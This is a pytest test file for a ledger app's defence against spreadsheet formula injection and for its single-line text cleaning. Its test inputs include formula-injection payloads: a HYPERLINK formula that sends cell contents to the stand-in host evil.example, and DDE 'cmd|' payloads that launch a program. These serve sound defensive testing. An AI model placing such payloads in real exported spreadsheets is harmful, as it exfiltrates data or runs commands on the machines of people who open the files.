"""The one rule for spreadsheet cells, and single-line text."""
from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest

from ledger.domain.cells import safe_cell, safe_row
from ledger.domain.text import first_control, single_line


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "-", "+86 138 0000 0000", "-12.50 yuan", "--1", "=",
])
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "-12.50", "12.50", "0.00", "-1000", "收3月物业费", "'=already quoted", "a=b", "记-2026-03-0001", "",
    Decimal("-12.50"), -1250, 12.5, True, None, dt.date(2026, 3, 1),
])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) is value or safe_cell(value) == value


def test_safe_row():
    assert safe_row(["=1", "-3.00", 4, "备注"]) == ["'=1", "-3.00", 4, "备注"]


def test_single_line():
    assert first_control("锦城花园") is None
    assert first_control("a\u2028b") == 1 and first_control("ab\x85") == 2 and first_control("\u202eabc") == 0
    assert single_line("a\r\nb\nc\td\x00e\u2028f") == "a b c d e f"
    assert single_line('quotes " and \\ stay') == 'quotes " and \\ stay'
